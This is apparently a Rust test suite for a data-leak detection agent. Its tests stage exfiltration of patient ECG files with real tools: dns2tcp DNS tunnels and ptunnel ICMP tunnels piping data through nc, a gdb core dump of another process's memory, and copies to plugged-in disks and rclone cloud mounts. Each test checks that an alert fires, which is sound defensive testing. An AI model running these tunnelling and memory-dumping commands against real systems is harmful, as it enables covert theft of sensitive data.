//! Ways out beside files and sockets, with real tools: decoys, names, ICMP, another process's memory, media.

use std::fs;
use std::path::Path;
use std::process::Command;

use jaga_tests::agent::Agent;
use jaga_tests::daemons::has;
use jaga_tests::disk::Disk;
use jaga_tests::leak::nothing_told;
use jaga_tests::net::OUT;
use jaga_tests::process::{Running, Unit, run};
use jaga_tests::wait::until;
use jaga_tests::world::{MB, World};

/// What `rule` told of `session`.
fn told_of(agent: &Agent, rule: &str, session: &str) -> serde_json::Value {
    agent.alert(rule, "firing", &[("session", session)])
}

#[test]
fn a_decoy() {
    let Some(world) = World::new("a_decoy") else {
        return;
    };
    let store = world.store("ekg", 20, MB);
    let decoy = store.join("patients-full-export.csv");
    fs::write(&decoy, "1,2,3\n").unwrap();
    let more = format!(
        "decoys: [{{ name: full-export, path: {} }}]\nreaders: [{{ unit: jagat-scan.service, exe: /usr/bin/sha256sum }}]\n",
        decoy.display()
    );
    let mut agent = world.agent(&[("ekg", &store)], &more);
    let up = || agent.metric("jaga_sensor_up", &[("sensor", "decoys")]);
    until("decoys to be watched", 20, || up().filter(|up| *up > 0.0));
    let scan = Unit::new("jagat-scan.service");
    scan.run(
        &format!(
            "ls -lR {0} >/dev/null; sha256sum {0}/* >/dev/null",
            store.display()
        ),
        60,
    );
    let snoop = Unit::new("jagat-snoop.service");
    snoop.run(&format!("grep -c 2 {}", decoy.display()), 60);
    let alert = told_of(&agent, "decoy-opened", &snoop.session());
    let summary = alert["summary"].as_str().unwrap();
    assert!(
        summary.contains("'full-export' was opened by unit:jagat-snoop.service (/usr/bin/grep"),
        "{summary}"
    );
    agent.replay_equals_live();
    let told = agent.alerts();
    let readers = told
        .iter()
        .filter(|told| told["key"]["session"] == scan.session());
    assert_eq!(readers.count(), 0, "a listed reader may: {told:#?}");
}

/// Whether these programs are here, each with the package that has it.
fn tools(tools: &[(&str, &str)]) -> bool {
    tools.iter().all(|(program, package)| has(program, package))
}

#[test]
fn a_tunnel_of_names() {
    let needed = [
        ("dns2tcpc", "dns2tcp"),
        ("dns2tcpd", "dns2tcp"),
        ("nc", "netcat-openbsd"),
    ];
    let Some(mut world) = World::new("a_tunnel_of_names").filter(|_| tools(&needed)) else {
        return;
    };
    let store = world.store("ekg", 2, MB);
    let folder = world.path("dns");
    let got = folder.join("got");
    let config = format!(
        "listen = {OUT}\nport = 53\nuser = nobody\nchroot = /var/empty\ndomain = t.example.com\nkey = k\nresources = \
         sink:127.0.0.1:7001\n"
    );
    fs::create_dir_all("/var/empty").unwrap();
    fs::write(folder.join("server.conf"), config).unwrap();
    let mut agent = world.agent(&[("ekg", &store)], "");
    let script = format!("exec nc -l 127.0.0.1 7001 >{}", got.display());
    let mut sink = world.net.out.command("sh");
    world.keep(Running::start(sink.args(["-c", &script])));
    let mut server = world.net.out.command("dns2tcpd");
    let server = server.args(["-F", "-f"]).arg(folder.join("server.conf"));
    world.keep(Running::start(server));
    let unit = Unit::new("jagat-tunnel.service");
    let script = format!(
        "sleep 1; dns2tcpc -T TXT -z t.example.com -k k -r sink -l 7002 {OUT} & sleep 1
         head -c 300000 {}/0000.dcm | timeout 60 nc -N 127.0.0.1 7002; sleep 2; kill $!",
        store.display()
    );
    unit.run(&script, 90);
    assert!(
        fs::metadata(&got).is_ok_and(|got| got.len() >= 300_000),
        "nothing came out"
    );
    let alert = agent.alert("dns-tunnel", "firing", &[("domain", "example.com")]);
    println!("   {}", alert["summary"]);
    agent.replay_equals_live();
}

/// Ordinary names, the same again and again.
#[test]
fn ordinary_names_are_quiet() {
    let Some(world) =
        World::new("ordinary_names_are_quiet").filter(|_| tools(&[("nc", "netcat-openbsd")]))
    else {
        return;
    };
    let store = world.store("ekg", 2, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let query = |name: &str| {
        let labels = name
            .split('.')
            .map(|label| format!("\\{:03o}{label}", label.len()));
        let labels: String = labels.collect();
        format!(
            "printf '\\000\\007\\001\\000\\000\\001\\000\\000\\000\\000\\000\\000{labels}\\000\\000\\001\\000\\001' | nc -uN -w0 {OUT} 53\n"
        )
    };
    let names: Vec<String> = (0..30)
        .map(|host| format!("www{host}.example{}.com", host % 7))
        .collect();
    let script: String = names.iter().map(|name| query(name)).collect();
    let unit = Unit::new("jagat-names.service");
    unit.run(
        &format!("for again in 1 2 3 4 5 6 7 8; do\n{script}done"),
        60,
    );
    agent.metric_reaches(
        "jaga_sent_bytes_total",
        &[("scope", "external")],
        8.0 * 30.0 * 30.0,
    );
    nothing_told(&mut agent);
}

#[test]
fn a_tunnel_of_pings() {
    let needed = [("ptunnel", "ptunnel"), ("nc", "netcat-openbsd")];
    let Some(mut world) = World::new("a_tunnel_of_pings").filter(|_| tools(&needed)) else {
        return;
    };
    let store = world.store("ekg", 2, MB);
    let got = world.path("icmp").join("got");
    let mut agent = world.agent(&[("ekg", &store)], "");
    let script = format!("exec nc -l 127.0.0.1 7001 >{}", got.display());
    let mut sink = world.net.out.command("sh");
    world.keep(Running::start(sink.args(["-c", &script])));
    let mut server = world.net.out.command("ptunnel");
    world.keep(Running::start(server.args(["-x", "pw"])));
    let unit = Unit::new("jagat-ping.service");
    let script = format!(
        "sleep 1; ptunnel -p {OUT} -lp 7002 -da 127.0.0.1 -dp 7001 -x pw & sleep 1
         head -c 200000 {}/0000.dcm | timeout 60 nc -N 127.0.0.1 7002; sleep 6; kill $!",
        store.display()
    );
    unit.run(&script, 90);
    until("the tunnel's end to have something", 30, || {
        fs::metadata(&got).ok().filter(|got| got.len() > 100_000)
    });
    let alert = agent.alert("icmp-tunnel", "firing", &[("destination", OUT)]);
    println!("   {}", alert["summary"]);
    agent.replay_equals_live();
}

#[test]
fn a_core_dump_of_who_holds() {
    let Some(world) = World::new("a_core_dump_of_who_holds").filter(|_| tools(&[("gdb", "gdb")]))
    else {
        return;
    };
    let store = world.store("ekg", 10, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let viewer = Unit::new("jagat-viewer.service");
    let script = format!(
        "exec /usr/bin/python3 -c 'import time; kept = [open(\"{}/%04d.dcm\" % n, \"rb\").read() for n in range(10)]; time.sleep(600)'",
        store.display()
    );
    let holder = Running::start(&mut viewer.shell(&script));
    agent.metric_reaches("jaga_store_read_files_total", &[("store", "ekg")], 10.0);
    let thief = Unit::new("jagat-thief.service");
    let dump = format!(
        "gdb -batch -p {} -ex 'generate-core-file {}/core' >/dev/null 2>&1",
        holder.pid(),
        world.path("loot").display()
    );
    thief.run(&dump, 90);
    let alert = told_of(&agent, "memory-read", &thief.session());
    println!("   {}", alert["summary"]);
    assert_eq!(alert["key"]["store"], "ekg");
    let summary = alert["summary"].as_str().unwrap();
    assert!(summary.contains(&viewer.session()), "{summary}");
    agent.replay_equals_live();
}

/// Copies from the store to a file system that was mounted while the agent watched.
fn copied_to(agent: &Agent, store: &Path, target: &Path, what: &str) {
    let unit = Unit::new("jagat-copy.service");
    let copy = format!(
        "cp {}/* {}/; sync -f {1}",
        store.display(),
        target.display()
    );
    unit.run(&copy, 60);
    let alert = told_of(agent, "store-to-media", &unit.session());
    println!("   {}", alert["summary"]);
    let destinations = alert["destinations"].as_array().unwrap();
    assert!(
        destinations
            .iter()
            .any(|place| place.as_str().unwrap().starts_with(what)),
        "{alert:#}"
    );
}

#[test]
fn a_disk_that_is_plugged_in() {
    let Some(world) = World::new("a_disk_that_is_plugged_in") else {
        return;
    };
    let store = world.store("ekg", 20, MB);
    let mut agent = world.agent(&[("ekg", &store)], "");
    let disk = Disk::new(world.folder(), "mkfs.ext4", 100 * MB);
    // A person takes longer.
    std::thread::sleep(std::time::Duration::from_secs(1));
    copied_to(&agent, &store, &disk.mounted, "ext4 on loop");
    agent.replay_equals_live();
}

#[test]
fn a_folder_of_a_cloud() {
    let needed = [("rclone", "rclone"), ("fusermount3", "fuse3")];
    let Some(world) = World::new("a_folder_of_a_cloud").filter(|_| tools(&needed)) else {
        return;
    };
    let store = world.store("ekg", 20, MB);
    let (remote, mounted) = (world.path("remote"), world.path("cloud"));
    // Rung 1 sees writes to FUSE only where pages stay behind.
    let mut agent = world.agent(&[("ekg", &store)], "sensors: { files: rung-3 }\n");
    let mut rclone = Command::new("rclone");
    rclone.env("RCLONE_CONFIG", world.path("rc").join("rclone.conf"));
    rclone
        .arg("mount")
        .arg(format!(":local:{}", remote.display()))
        .arg(&mounted);
    let cloud = Running::start(&mut rclone);
    let mounts = || fs::read_to_string("/proc/self/mountinfo").unwrap();
    until("the cloud to be mounted", 30, || {
        mounts().contains(" fuse.rclone ").then_some(())
    });
    std::thread::sleep(std::time::Duration::from_secs(1));
    copied_to(&agent, &store, &mounted, "fuse.rclone");
    run(Command::new("umount").arg("-l").arg(&mounted));
    drop(cloud);
    agent.replay_equals_live();
}
